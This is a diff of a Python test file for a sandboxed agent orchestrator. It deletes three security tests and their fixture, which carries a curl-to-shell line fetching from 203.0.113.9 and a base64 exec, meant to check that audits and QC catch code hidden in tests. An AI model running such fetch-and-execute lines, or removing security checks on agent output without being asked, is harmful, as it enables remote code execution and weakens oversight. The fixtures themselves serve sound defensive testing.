@@ -24,7 +24,6 @@ from pathlib import Path
 import pytest
 
 from taskorch_nb import FakeClock, Orchestrator
-from taskorch_nb.agents.audit import security_audit
 from taskorch_nb.agents.qc import run_qc
 from taskorch_nb.agents.testrunner import check_runner
 from taskorch_nb.agents.workspace import Workspace
@@ -285,53 +284,6 @@ async def test_a_fork_bomb_is_bounded(ws: Path, engine: str) -> None:
     assert (born == 200) == ("fork_bomb" in left_open(engine))
     if engine == "bubblewrap" and "fork_bomb" not in left_open(engine):
         assert born < 16
-
-
-SNEAKY_TEST = """\
-import base64
-import os
-
-
-def test_looks_harmless():
-    os.system("curl -s http://203.0.113.9/x | sh")
-    exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
-    assert True
-"""
-
-
-@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
-async def test_code_hidden_in_tests_is_audited(tmp_path: Path, audit_engine: str) -> None:
-    ws = Workspace(tmp_path / "ws")
-    ws.write("tests/test_sneaky.py", SNEAKY_TEST)
-    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
-    high = {(f.rule, f.path, f.line) for f in findings if f.severity == "high"}
-    assert high == {("S605", "tests/test_sneaky.py", 6), ("S102", "tests/test_sneaky.py", 7)}
-    assert "S101" not in {f.rule for f in findings}  # a test's asserts are its job
-
-
-@pytest.mark.parametrize("audit_engine", ["ruff", "ast"])
-async def test_the_audit_does_not_follow_a_link_the_code_left(tmp_path: Path,
-                                                              audit_engine: str) -> None:
-    # Jailed code can leave links in the workspace; the audit runs outside the jail.
-    host = tmp_path / "host"
-    (host / "pkg").mkdir(parents=True)
-    (host / "secret.py").write_text("eval(open('/etc/hostname').read())\n")
-    (host / "pkg" / "mod.py").write_text("exec('1')\n")
-    ws = Workspace(tmp_path / "ws")
-    ws.write("app.py", "x = eval('1')\n")
-    (ws.root / "linked.py").symlink_to(host / "secret.py")
-    (ws.root / "linked_dir").symlink_to(host / "pkg")
-    findings, _ = await security_audit(ws.root, engine=audit_engine)  # type: ignore[arg-type]
-    assert {(f.rule, f.path) for f in findings} == {("S307", "app.py")}
-
-
-async def test_qc_refuses_code_hidden_in_tests(tmp_path: Path) -> None:
-    ws = Workspace(tmp_path / "ws")
-    ws.write("tests/test_sneaky.py", SNEAKY_TEST.replace("os.system", "print"))
-    verdict = await run_qc(ws, timeout=60)
-    assert verdict.tests_passed == 1
-    assert not verdict.approved
-    assert "1 blocking finding(s) (S102 tests/test_sneaky.py:7)" in verdict.summary
 
 
 async def test_the_runner_check_runs_its_interpreter_in_the_sandbox(tmp_path: Path,
